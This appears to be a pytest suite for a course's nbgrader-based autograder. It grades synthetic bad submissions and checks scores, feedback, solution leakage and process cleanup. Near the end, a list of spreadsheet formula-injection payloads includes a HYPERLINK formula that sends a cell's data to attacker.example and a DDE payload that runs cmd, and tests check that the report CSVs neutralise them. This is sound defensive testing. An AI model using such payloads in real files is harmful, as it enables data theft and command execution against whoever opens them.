"""Instructor workflow, end to end with nbgrader's CLI: a class of synthetic students is
autograded in parallel and each kind of bad submission gets its expected score."""

import csv
import html
import json
import os
import re
import shutil
import signal
import subprocess
from pathlib import Path

import psutil
import pytest

from handson_lib import launch
from handson_lib.authoring import course_source
from handson_lib.autograder import nbgrader_course, synthetic_class
from conftest import ROOT, UNSAFE, VENV_BIN

SETUP_CLASS = synthetic_class.CLASSES["setup"]


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    course_dir = tmp_path_factory.mktemp("course")
    shutil.copy(ROOT / "course" / "nbgrader_config.py", course_dir)
    course_source.assemble(course_dir, assignments=["setup"])
    res = nbgrader_course.nbgrader("generate_assignment", "setup", "--force", course_dir=course_dir)
    assert res.ok, res.output
    synthetic_class.write_class(course_dir, "setup")
    printed = []
    rows, seconds = nbgrader_course.autograde("setup", course_dir, jobs=2, timeout=120, cell_timeout=15, unsafe=UNSAFE,
                                              print_fn=printed.append)
    print("\n".join(printed))
    return course_dir, {r["student"]: r for r in rows}, printed


@pytest.mark.slow
def test_release_leaks_no_solution(graded_class):
    course_dir, _, _ = graded_class
    text = (course_dir / "release" / "setup" / "00_setup.ipynb").read_text()
    assert "return batch_per_worker * n_workers" not in text and "HIDDEN TESTS" not in text
    assert "# PUT YOUR CODE HERE" in text


@pytest.mark.slow
@pytest.mark.parametrize("student", sorted(SETUP_CLASS))
def test_each_submission_gets_its_expected_score(graded_class, student):
    _, rows, _ = graded_class
    sub = SETUP_CLASS[student]
    assert rows[student]["score"] == sub.expected, rows[student]
    assert rows[student]["status"].startswith(sub.status), rows[student]
    # No grade cell of the setup notebook prints the grader's ratio line: a student's doesn't count.
    assert rows[student]["throughput_ratio"] is None and rows[student]["scaling_ratio"] is None, rows[student]


@pytest.mark.slow
def test_the_correct_student_runs_the_instructors_notebook_without_an_error(graded_class):
    """The correct student is the instructor's notebook with its hidden tests, run by nbgrader:
    the execution of solutions/00_setup.ipynb (tests/test_notebooks.py runs the others)."""
    course_dir, rows, _ = graded_class
    assert rows["correct"]["score"] == 3.0
    assert errors_in_autograded(course_dir, "setup", "correct") == []


@pytest.mark.slow
def test_feedback_lines_name_the_cause(graded_class):
    _, rows, _ = graded_class
    assert "ran past its time limit" in rows["infinite_loop"]["feedback"]
    assert "SystemExit: bye" in rows["sys_exit"]["feedback"]
    assert rows["correct"]["feedback"] == ""


@pytest.mark.slow
def test_a_later_cell_never_sees_what_the_hidden_tests_called_the_function_with(graded_class):
    """The student's function keeps its arguments and a later answer cell prints them: the calls of
    the grade cell were made in a process of their own, so the kernel's list is empty."""
    course_dir, rows, _ = graded_class
    assert rows["stashed_arguments"]["score"] == 3.0
    nb = json.loads((course_dir / "autograded" / "stashed_arguments" / "setup" / "00_setup.ipynb").read_text())
    text = "".join("".join(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", []))
    assert "stash: []" in text and "(32, 4)" not in text and "(128, 8)" not in text, text


@pytest.mark.slow
def test_huge_output_is_cut_in_the_gradebook_copy(graded_class):
    course_dir, _, _ = graded_class
    nb = json.loads((course_dir / "autograded" / "huge_output" / "setup" / "00_setup.ipynb").read_text())
    text = "".join("".join(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", []))
    assert "spam 10" in text and text.count("spam") <= 600


@pytest.mark.slow
def test_feedback_hides_hidden_tests_and_export_has_every_student(graded_class):
    course_dir, rows, _ = graded_class
    res = nbgrader_course.nbgrader("generate_feedback", "setup", "--force", course_dir=course_dir)
    assert res.ok, res.output
    page = (course_dir / "feedback" / "skeleton" / "setup" / "00_setup.html").read_text()
    text = html.unescape(re.sub(r"<[^>]+>", "", page))  # what the student reads
    assert "total_batch_size(32, 2) == 64" in text  # the visible test is shown
    assert 'needed_parallelism == "model"' not in text and "total_batch_size(128, 8)" not in text
    assert ("AssertionError: total_batch_size(32, 1): expected the 32 images of the one worker"
            "   (traceback not shown in feedback)") in text
    assert "NameError: name 'needed_parallelism' is not defined" in text
    res = nbgrader_course.nbgrader("export", course_dir=course_dir)
    assert res.ok, res.output
    with (course_dir / "grades.csv").open() as f:
        exported = {r["student_id"]: float(r["score"]) for r in csv.DictReader(f)}
    for student, sub in SETUP_CLASS.items():
        assert exported.get(student) == sub.expected, (student, exported)


@pytest.mark.slow
def test_feedback_of_wrong_answers_says_what_was_expected(graded_class):
    """Each failed cell's feedback names what its test expected, and gives no answer away."""
    course_dir, rows, _ = graded_class
    assert rows["all_wrong"]["feedback"].startswith(
        "failed: q1_total_batch_test, q2_parallelism_test, q3_lr_test"), rows["all_wrong"]
    res = nbgrader_course.nbgrader("generate_feedback", "setup", "--student", "all_wrong", "--force",
                                   course_dir=course_dir)
    assert res.ok, res.output
    page = (course_dir / "feedback" / "all_wrong" / "setup" / "00_setup.html").read_text()
    text = html.unescape(re.sub(r"<[^>]+>", "", page))
    for expected in ("AssertionError: total_batch_size(32, 2): expected the images of both workers",
                     'AssertionError: needed_parallelism: expected one of the strings "data" or "model"',
                     "AssertionError: lr_set_by_script and n_gpus: expected the script's rate divided by"):
        assert expected in text
    for answer in (r"batch_per_worker \* n_workers", r"== 128", r"needed_parallelism == .model",
                   r"n_gpus == 2", r"lr_set_by_script = 0\.05\b", r"0\.05\) < 1e-9"):
        assert not re.search(answer, text), answer


@pytest.mark.slow
def test_each_student_is_shown_as_graded_with_the_time_left(graded_class):
    course_dir, rows, printed = graded_class
    bars = [line for line in printed if re.match(r"  \[[#-]{24}\] \d+/\d+ ", line)]
    assert [b.split("] ")[1].split()[0] for b in bars] == [f"{k}/{len(rows)}" for k in range(1, len(rows) + 1)]
    assert "left" in bars[0] and "left" not in bars[-1]
    # Each student's line comes before the next progress bar, as soon as that student is graded.
    first = printed.index(bars[0])
    assert any(printed[first - 1].lstrip().startswith(s) for s in rows) or \
        any(printed[first - 2].lstrip().startswith(s) for s in rows), printed[:first + 1]
    with (course_dir / "autograde_setup_profile.csv").open() as f:
        parts = list(csv.DictReader(f))
    assert sorted({p["student"] for p in parts}) == sorted(rows)
    for student, row in rows.items():
        mine = [p for p in parts if p["student"] == student]
        assert mine[-1]["part"].startswith("the rest") and \
            abs(sum(float(p["seconds"]) for p in mine) - row["seconds"]) < 0.5, mine


@pytest.mark.slow
def test_no_run_is_left_behind(graded_class):
    course_dir, _, printed = graded_class
    # The daemon a submission started outside its kernel's process tree ended with the session:
    # with its sandbox (a pid namespace), or, --unsafe, stopped by the session's mark.
    assert not [p.info for p in psutil.process_iter(["cmdline"])
                if synthetic_class.DAEMON_MARK in " ".join(p.info["cmdline"] or [])]
    if UNSAFE:
        assert any(line.startswith("stopped 1 process(es) that submissions left running") for line in printed), printed
    leftovers = []
    for proc in psutil.process_iter(["cmdline"]):
        try:
            if any(str(course_dir) in part for part in proc.info["cmdline"] or []):
                leftovers.append(proc.info["cmdline"])
        except psutil.Error:
            pass
    assert leftovers == []


def errors_in_autograded(course_dir, assignment, student):
    """The error outputs of a student's autograded notebooks (the instructor's hidden tests ran)."""
    errors = []
    for path in sorted((Path(course_dir) / "autograded" / student / assignment).glob("*.ipynb")):
        errors += [f"{path.name}: {o.get('ename')}: {o.get('evalue', '')[:300]}"
                   for c in json.loads(path.read_text())["cells"] for o in c.get("outputs", [])
                   if o.get("output_type") == "error"]
    return errors


def graded_students(request):
    """The synthetic students that this session's selected tests of the class (the tests using
    the requesting fixture) need, by their `students` marks: a class is graded once per session,
    with only those students."""
    return sorted({name for item in request.session.items if request.fixturename in item.fixturenames
                   for mark in item.iter_markers("students") for name in mark.args})


def grade_class(assignment, course_dir, request, reference_cache, **kwargs):
    """The instructor guide's commands on the synthetic class of `assignment`, its needed students."""
    shutil.copy(ROOT / "course" / "nbgrader_config.py", course_dir)
    course_source.assemble(course_dir, assignments=[assignment])
    res = nbgrader_course.nbgrader("generate_assignment", assignment, "--force", course_dir=course_dir)
    assert res.ok, res.output
    students = graded_students(request)
    assert students, "no selected test names the students it needs"
    synthetic_class.write_class(course_dir, assignment, students=students)
    printed = []
    rows, seconds = nbgrader_course.autograde(assignment, course_dir, reference_cache=reference_cache, unsafe=UNSAFE,
                                              print_fn=lambda line: (printed.append(line), print(line)), **kwargs)
    assert sorted(r["student"] for r in rows) == students
    return course_dir, {r["student"]: r for r in rows}, printed


@pytest.fixture(scope="module")
def graded_task1_class(tmp_path_factory, request, reference_cache):
    return grade_class("task1", tmp_path_factory.mktemp("course-task1"), request, reference_cache, jobs=1,
                       timeout=600)


# Beside the other tests, not timed alone: the paired timing takes the reference's steps and the
# student's in turn, so that a correct student keeps the throughput point on a busy machine.
@pytest.mark.slow
@pytest.mark.students("correct")
def test_task1_grades_the_scripts_each_student_handed_in(graded_task1_class):
    """The assignment's source holds the skeleton scripts; the student's own scripts must be the
    ones run (Autograde.exclude_overwriting), with throughput scored against the reference. The
    correct student is the instructor's notebook run with its hidden tests: no cell fails. (The
    skeleton's 0 is asserted in tests/test_verdicts.py, graded beside the attacks.)"""
    course_dir, rows, _ = graded_task1_class
    assert "# PUT YOUR CODE HERE" in (course_dir / "release" / "task1" / "train_cifar_multi_gpu.py").read_text()
    # The 1 throughput point comes in bands of the ratio to the reference measured in the same
    # session; a busy machine may give the correct scripts the half band.
    assert (rows["correct"]["score"], rows["correct"]["max_score"]) in ((7.0, 7.0), (6.5, 7.0)), rows
    assert errors_in_autograded(course_dir, "task1", "correct") == []
    assert rows["correct"]["throughput_ratio"] is not None


TASK2_CLASS = synthetic_class.CLASSES["task2"]
#: Seconds for grading the synthetic task2 class (its fixture runs within the first test):
#: up to 6 students, 2 at a time, each with 1- and 2-rank runs, the MNIST conversion and the stretch.
TASK2_CLASS_TIMEOUT = 1800
#: The tier of each task2 student: `make test-slow` grades a smaller class, the system tier (what
#: CI runs) the whole class. The correct student's throughput points rest on a ratio measured beside
#: the other tests (the paired timing's turns keep it near 1 on a busy machine: 0.96-1.13 in 10
#: gradings at a load of 6 on 2 cores), not alone.
TASK2_TIER = {"correct": pytest.mark.slow, "skeleton": pytest.mark.slow, "deadlock": pytest.mark.slow,
              "crash_on_one_rank": pytest.mark.whole_class, "missing_script": pytest.mark.whole_class,
              "no_multi_node_optimizer": pytest.mark.whole_class, "tampered_test": pytest.mark.whole_class,
              "forged_alone": pytest.mark.whole_class, "alone_described": pytest.mark.whole_class,
              "stretch_from_the_course": pytest.mark.whole_class}


def for_students(*students):
    """The marks of a test that needs these task2 students graded: their tier and `students`."""
    tiers = {TASK2_TIER[s].name for s in students}
    tier = next(t for t in ("timed", "whole_class", "slow") if t in tiers)
    return [getattr(pytest.mark, tier), pytest.mark.students(*students), pytest.mark.timeout(TASK2_CLASS_TIMEOUT)]


@pytest.fixture(scope="module")
def graded_task2_class(tmp_path_factory, request, reference_cache):
    """The instructor guide's commands on the synthetic task2 class (MPI runs). No cap on a run's
    time: a deadlocked run is stopped once its iterations stop (the watchdog's stall limit), so a
    slow machine's correct run is never mistaken for one."""
    course_dir = tmp_path_factory.mktemp("course-task2")
    return grade_class("task2", course_dir, request, reference_cache, jobs=2, profile=True)


@pytest.mark.parametrize("student", [pytest.param(s, marks=for_students(s)) for s in sorted(TASK2_CLASS)])
def test_task2_submission_gets_its_expected_score(graded_task2_class, student):
    course_dir, rows, _ = graded_task2_class
    row, sub = rows[student], TASK2_CLASS[student]
    assert row["max_score"] == 14.0 and row["status"].startswith(sub.status), row
    if student == "correct":
        # The 2 throughput points come in bands of the ratio to the reference measured in the same
        # session; on a shared machine the correct script may land in the half band. It is the
        # instructor's notebook run with its hidden tests: no cell fails.
        assert row["score"] in (13.0, 14.0) and row["throughput_ratio"] is not None, row
        assert errors_in_autograded(course_dir, "task2", "correct") == []
    else:
        assert row["score"] == sub.expected, row


@pytest.mark.parametrize("student, words", [
    pytest.param(student, words, marks=for_students(student)) for student, words in [
        ("deadlock", "deadlock"), ("deadlock", "stopped early by the watchdog"),
        ("crash_on_one_rank", "planted crash on the last rank"),
        ("missing_script", "train_cifar_multi_node.py was not handed in"),
        ("no_multi_node_optimizer", "create_multi_node_optimizer"),
        # Ranks that train alone, whatever their record says (forged_alone) or they send
        # (alone_described): the grader's replay of ranks training together is what fails.
        ("forged_alone", "shards are disjoint: not shown by what the run trained"),
        ("alone_described", "is not the update of 2 ranks training together"),
        ("skeleton", "failed: q1_ranks_test, mnist_conversion, task2_jobscript, task2_correctness, "
                     "task2_throughput, stretch_per_class_test")]])
def test_task2_feedback_line_says_what_went_wrong(graded_task2_class, student, words):
    course_dir, rows, _ = graded_task2_class
    assert words in rows[student]["feedback"], rows[student]
    with (course_dir / "autograde_task2.csv").open() as f:
        assert {r["student"]: r["feedback"] for r in csv.DictReader(f)}[student] == rows[student]["feedback"]


def session_of(printed):
    """The grading session's folder, from the line `handson autograde` starts grading with."""
    return next(re.search(r"\(session (\S+)\)", line).group(1) for line in printed if line.startswith("Autograding"))


@pytest.mark.parametrize("student", [pytest.param("deadlock", marks=for_students("deadlock")),
                                     pytest.param("correct", marks=for_students("correct"))])
def test_task2_leaves_no_process_behind(graded_task2_class, student):
    _, rows, printed = graded_task2_class
    assert student in rows
    # Every process of the session (kernels, launchers, ranks) carries the session's mark.
    assert launch.processes_carrying(nbgrader_course.SESSION_ENV, session_of(printed)) == []


@pytest.mark.parametrize("student", [pytest.param("correct", marks=for_students("correct"))])
def test_task2_throughput_plot(graded_task2_class, student):
    course_dir, rows = graded_task2_class[:2]
    plot = course_dir / "autograde_task2_throughput.png"
    assert plot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and plot.stat().st_size > 10_000
    # Those whose scripts are the solutions (the stretch's own attack among them) are timed.
    solved = sorted(r for r in rows if TASK2_CLASS[r.rsplit("-", 1)[0] if r not in TASK2_CLASS else r].scripts ==
                    TASK2_CLASS[student].scripts)
    assert sorted(r for r in rows if rows[r]["throughput_ratio"] is not None) == solved


def _profile(course_dir):
    with (course_dir / "autograde_task2_profile.csv").open() as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("student", [pytest.param("deadlock", marks=for_students("deadlock"))])
def test_task2_profile_shows_where_each_students_time_went(graded_task2_class, reference_cache, student):
    course_dir, rows, printed = graded_task2_class
    parts = _profile(course_dir)
    names = [p["part"] for p in parts]
    assert sorted({p["student"] for p in parts}) == sorted(rows)
    # Each reference run (script, ranks, arguments) is measured once for the whole session, by
    # whichever student (or test) needs it first.
    references = [n for n in names if n.startswith("reference ")]
    assert len(references) == len(set(references)), references
    # The references the class needs, measured here or earlier in the session (by a test of the
    # checks), are in the session's cache: the 2-rank correctness run and the MNIST conversion's.
    assert len(list(reference_cache.glob("reference-*.json"))) >= 2
    # The cells that only show runs are not run: no notebook run, no course demo, for any student.
    assert not [n for n in names if n.startswith("notebook: ")], names
    assert any(line.startswith("Where the grading time went") for line in printed)


@pytest.mark.parametrize("student", [pytest.param("correct", marks=for_students("correct"))])
def test_task2_a_correct_check_runs_its_own_run_and_times_in_turn(graded_task2_class, student):
    course_dir = graded_task2_class[0]
    correct = [p["part"] for p in _profile(course_dir) if p["student"] == student]
    # The grader's check never takes the kernel's run for its own (the kernel could have forged
    # it): its 2-rank run, then the timing in turn with the reference's steps, on 2 ranks and on 1.
    for part in ("multi-node: your 2-rank run",
                 "multi-node: timing on 2 rank(s), the reference's steps and yours in turn",
                 "multi-node: timing on 1 rank(s), the reference's steps and yours in turn",
                 "mnist-multi-node: your 2-rank run"):
        assert part in correct, correct
    assert not any("the same run as the notebook's, reused" in part for part in correct), correct


def small_setup_class(course_dir, students):
    shutil.copy(ROOT / "course" / "nbgrader_config.py", course_dir)
    course_source.assemble(course_dir, assignments=["setup"])
    res = nbgrader_course.nbgrader("generate_assignment", "setup", "--force", course_dir=course_dir)
    assert res.ok, res.output
    synthetic_class.write_class(course_dir, "setup", students=students)


def autograded_at(course_dir, student):
    return (course_dir / "autograded" / student / "setup" / "00_setup.ipynb").stat().st_mtime


@pytest.mark.slow
def test_a_failed_regrade_marks_the_old_score_stale_and_resume_grades_it_again(tmp_path):
    small_setup_class(tmp_path, ["correct", "wrong_q1"])
    rows, _ = nbgrader_course.autograde("setup", tmp_path, jobs=2, print_fn=lambda _: None, unsafe=UNSAFE)
    assert {r["student"]: r["score"] for r in rows} == {"correct": 3.0, "wrong_q1": 2.0}
    # The same student's notebook now kills its kernel: nbgrader fails, and the earlier 2 points go.
    synthetic_class.fill(tmp_path / "submitted" / "wrong_q1" / "setup", "setup", "kernel_killed")
    rows, _ = nbgrader_course.autograde("setup", tmp_path, jobs=1, students=["wrong_q1"], print_fn=lambda _: None,
                                        unsafe=UNSAFE)
    assert rows[0]["score"] == 0.0 and rows[0]["status"].startswith("nbgrader failed"), rows
    assert "its score 2 from an earlier grading is stale and was removed from the gradebook" in rows[0]["status"]
    assert "wrong_q1" not in nbgrader_course.scores(tmp_path, "setup")
    assert nbgrader_course.read_report(tmp_path, "setup")["wrong_q1"]["score"] == 0.0
    # --resume keeps the student graded earlier (the report says so) and grades the failed one again.
    synthetic_class.write_class(tmp_path, "setup", students=["wrong_q1"])
    before = autograded_at(tmp_path, "correct")
    printed = []
    nbgrader_course.autograde("setup", tmp_path, jobs=1, resume=True, print_fn=printed.append, unsafe=UNSAFE)
    assert printed[0].startswith("--resume: 1 student(s) graded earlier are kept"), printed
    assert autograded_at(tmp_path, "correct") == before
    report = nbgrader_course.read_report(tmp_path, "setup")
    assert {s: (r["score"], r["status"]) for s, r in report.items()} == {"correct": (3.0, "graded"),
                                                                          "wrong_q1": (2.0, "graded")}


@pytest.mark.slow
def test_a_markdown_answer_is_left_to_the_instructor_and_the_status_says_so(tmp_path):
    """04's explanation (Exercise 4) is a markdown answer graded by a person: the instructor's own
    notebook handed in earns every automatic point, and its row says one answer awaits manual
    grading; --resume keeps such a row."""
    shutil.copy(ROOT / "course" / "nbgrader_config.py", tmp_path)
    course_source.assemble(tmp_path, assignments=["scaling"])
    res = nbgrader_course.nbgrader("generate_assignment", "scaling", "--force", course_dir=tmp_path)
    assert res.ok, res.output
    handed_in = tmp_path / "submitted" / "alice" / "scaling"
    shutil.copytree(tmp_path / "source" / "scaling", handed_in)
    rows, _ = nbgrader_course.autograde("scaling", tmp_path, jobs=1, print_fn=lambda _: None, unsafe=UNSAFE)
    [row] = rows
    assert row["score"] == row["max_score"] - 1 and row["status"] == "graded" + nbgrader_course.AWAITS_MANUAL, row
    printed = []
    nbgrader_course.autograde("scaling", tmp_path, jobs=1, resume=True, print_fn=printed.append, unsafe=UNSAFE)
    assert printed[0].startswith("--resume: 1 student(s) graded earlier are kept"), printed


@pytest.mark.slow
def test_ctrl_c_stops_the_runs_keeps_what_was_graded_and_says_how_to_go_on(tmp_path):
    """Ctrl-C while a student's endless cell runs: the session's processes stop, the student graded
    already stays in the report, and the screen says how to go on."""
    small_setup_class(tmp_path, ["correct", "infinite_loop"])
    proc = subprocess.Popen([str(VENV_BIN / "handson"), "autograde", "setup", "--course", str(tmp_path), "--jobs", "2",
                             *(["--unsafe"] if UNSAFE else [])],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            # as from a terminal: an xdist worker's children inherit SIGINT ignored
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    lines = []
    for line in proc.stdout:  # the first student graded: its progress bar
        lines.append(line)
        if re.match(r"  \[[#-]+\] 1/2 ", line):
            break
    session = session_of(lines)
    proc.send_signal(signal.SIGINT)
    out, _ = proc.communicate(timeout=120)
    printed = "".join(lines) + out
    assert proc.returncode == 130, printed
    assert "Go on with: handson autograde setup --resume" in printed and "not graded: infinite_loop" in printed
    assert list(nbgrader_course.read_report(tmp_path, "setup")) == ["correct"]
    assert launch.processes_carrying(nbgrader_course.SESSION_ENV, session) == []
    assert not Path(session).exists()


@pytest.mark.slow
def test_every_assignment_releases_without_solutions(tmp_path):
    """Every notebook of the course is an nbgrader assignment whose release leaks nothing."""
    shutil.copy(ROOT / "course" / "nbgrader_config.py", tmp_path)
    course_source.assemble(tmp_path)
    for name, (notebook, files) in nbgrader_course.ASSIGNMENTS.items():
        res = nbgrader_course.nbgrader("generate_assignment", name, "--force", course_dir=tmp_path)
        assert res.ok, (name, res.output[-2000:])
        release = tmp_path / "release" / name
        figures = course_source.shown_figures(ROOT / "solutions" / notebook)
        sites = sorted({site for f in files for site in ("miyabi", "abci") if (ROOT / "exercises" / site / f).exists()})
        assert sorted(p.name for p in release.iterdir()) == sorted([notebook, *files, *sites] +
                                                                   (["figures"] if figures else []))
        assert sorted(p.name for p in (release / "figures").glob("*.svg")) == figures
        for path in release.rglob("*"):
            if path.is_dir() or path.suffix == ".svg":
                continue
            text = path.read_text()
            assert "BEGIN SOLUTION" not in text and "HIDDEN TESTS" not in text, path
        assert "# PUT YOUR CODE HERE" in (release / notebook).read_text()


@pytest.mark.slow
def test_synthetic_class_copies_hand_in_their_own_bytes(tmp_path):
    """`synthetic-class --copies N`: each kind handed in by N students, whose scripts differ by
    the student's name only, so that nothing a grader keeps per script is shared between them."""
    shutil.copy(ROOT / "course" / "nbgrader_config.py", tmp_path)
    course_source.assemble(tmp_path, assignments=["task2"])
    res = nbgrader_course.nbgrader("generate_assignment", "task2", "--force", course_dir=tmp_path)
    assert res.ok, res.output
    folders = synthetic_class.write_class(tmp_path, "task2", copies=2)
    assert sorted(f.parent.name for f in folders) == sorted([*TASK2_CLASS, *(f"{k}-2" for k in TASK2_CLASS)])
    assert synthetic_class.kind_of("task2", "crash_on_one_rank-2") is TASK2_CLASS["crash_on_one_rank"]
    first, second = (tmp_path / "submitted" / s / "task2" / "train_cifar_multi_node.py" for s in ("correct", "correct-2"))
    assert first.read_bytes() != second.read_bytes()
    assert first.read_text().replace("# handed in by correct\n", "") == \
        second.read_text().replace("# handed in by correct-2\n", "")
    assert not (tmp_path / "submitted" / "missing_script-2" / "task2" / "train_cifar_multi_node.py").exists()


#: Texts a spreadsheet would run as formulas (OWASP's list), and texts that must read back as they were.
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A2,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]
PLAIN = ["graded", "'quoted", "''=1", "", "a=1"]


def _cells(path):
    with open(path, newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_a_formula_in_the_report_csv_is_neutralised_and_read_back_as_it_was(tmp_path):
    rows = [{"student": student, "score": 1.5, "max_score": 3.0, "status": status, "seconds": 2.0,
             "throughput_ratio": None, "scaling_ratio": -0.5, "feedback": f"first error: {status}" if i else status}
            for i, (student, status) in enumerate(zip(FORMULAS + PLAIN, reversed(FORMULAS + PLAIN)))]
    path = nbgrader_course.write_report(tmp_path, "task1", rows)
    unsafe = [cell for cell in _cells(path) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert unsafe == ["-0.5"] * len(rows), unsafe     # a number is no formula: it stays a number
    back = nbgrader_course.read_report(tmp_path, "task1")
    assert list(back) == FORMULAS + PLAIN
    for row in rows:
        assert {key: back[row["student"]][key] for key in ("status", "feedback", "score", "scaling_ratio")} == \
            {key: row[key] for key in ("status", "feedback", "score", "scaling_ratio")}


def test_a_formula_in_the_profile_csv_is_neutralised(tmp_path):
    results = [{"student": student, "seconds": 10.0, "parts": [{"part": part, "seconds": 1.0, "ended": 5.0}]}
               for student, part in zip(FORMULAS, reversed(FORMULAS))]
    path = nbgrader_course.write_profile(tmp_path / "autograde_task1_profile.csv", results, session_start=0.0)
    cells = _cells(path)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert {f"'{formula}" for formula in FORMULAS} <= set(cells)


def _deep_tree(folder, depth):
    """`depth` nested folders below `folder` (made relative to each other: the path is longer than
    PATH_MAX)."""
    fd = os.open(folder, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
    finally:
        os.close(fd)


def test_the_session_cleanup_removes_a_3000_deep_tree_without_raising():
    """A submission that wrote 3000 nested folders in its session folder made the end of `handson
    autograde` raise RecursionError (shutil.rmtree): no summary, no report, the session left behind."""
    said = []
    with nbgrader_course._session_folders(print_fn=said.append) as (_, scratch):
        _deep_tree(scratch, 3000)
    assert not os.path.exists(scratch) and said == [], said


def test_a_failed_session_cleanup_is_said_never_raised(tmp_path, monkeypatch):
    from handson_lib.autograder import sandbox
    def refused(*args, **kwargs):
        raise OSError("planted")
    monkeypatch.setattr(sandbox.subprocess, "run", refused)
    said = []
    sandbox.remove_session(tmp_path, print_fn=said.append)
    assert len(said) == 1 and "could not be removed" in said[0] and "planted" in said[0], said


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_an_assignment_holds_the_job_script_skeleton_of_every_exercise_site(tmp_path, lang):
    """The Hub's assignment carries what the edition's exercises/ carries: the job script of every
    exercise site (miyabi/, abci/ beside the Reedbush-H one), each a skeleton."""
    course_source.assemble(tmp_path, assignments=["task1", "task2"], lang=lang)
    exercises = ROOT / "exercises" if lang == "en" else ROOT / "exercises" / lang
    for assignment in ("task1", "task2"):
        _, files = nbgrader_course.ASSIGNMENTS[assignment]
        for name in (f for f in files if f.endswith(".sh")):
            for site in ("miyabi", "abci"):
                copied = tmp_path / "source" / assignment / site / name
                assert copied.read_text() == (exercises / site / name).read_text()
                assert "# PUT YOUR CODE HERE" in copied.read_text() and "BEGIN SOLUTION" not in copied.read_text()
